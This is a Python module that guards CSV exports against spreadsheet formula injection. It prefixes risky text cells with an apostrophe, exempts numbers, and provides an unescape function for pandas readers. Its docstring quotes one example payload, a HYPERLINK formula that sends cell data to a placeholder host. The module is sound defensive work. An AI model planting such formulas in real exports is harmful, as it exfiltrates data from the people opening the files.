"""CSV cells safe to open in a spreadsheet: text that Excel, LibreOffice or Google Sheets would run as a formula.

A post that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (`=HYPERLINK("http://x/?"&A1)`, `@SUM(…)`)
is a formula when a journalist double-clicks the CSV. Every CSV actorwatch writes (export records.csv, labels
export, chart and Explore CSVs) prefixes such a text cell with `'`, the OWASP mitigation that spreadsheets show as
literal text. Numbers (`-0.25`) are left alone, and so is Parquet, the format for code. The escape is reversible:
actorwatch's own readers (import-bundle, labels import, the native CSV importer) undo it, and `unescape_frame`
does so for a pandas reader (text that itself began with `'` before a trigger gets one more `'`).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = "=+-@\t\r"
_ESCAPED = re.compile(r"^'*[=+\-@\t\r]")
_NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")
NOTE = ("CSV text cells that begin with = + - @, a tab or a carriage return (spreadsheet formula triggers) are "
        "prefixed with ' so spreadsheets show them as text; numbers are not. actorwatch's importers remove the "
        "prefix; in pandas: collectors.spreadsheet.unescape_frame(df). Parquet holds the text as collected.")


def escape_cell(value: Any) -> Any:
    """A text cell prefixed with `'` when a spreadsheet would read it as a formula; anything else unchanged."""
    if isinstance(value, str) and _ESCAPED.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def unescape_cell(value: Any) -> Any:
    """The text `escape_cell` was given."""
    if isinstance(value, str) and value.startswith("'") and _ESCAPED.match(value):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell (and column name) through `escape_cell`; numeric columns untouched."""
    return _map_text(frame, escape_cell)


def unescape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A CSV read with pandas as the text was before `escape_frame`."""
    return _map_text(frame, unescape_cell)


def _map_text(frame: pd.DataFrame, cell: Any) -> pd.DataFrame:
    out = frame.copy()
    for col in out.columns:
        if _is_text(out[col]):
            out[col] = out[col].map(cell)
    return out.rename(columns=lambda c: cell(c) if isinstance(c, str) else c)


def _is_text(column: pd.Series) -> bool:
    return column.dtype.kind == "O" or str(column.dtype).startswith("string")
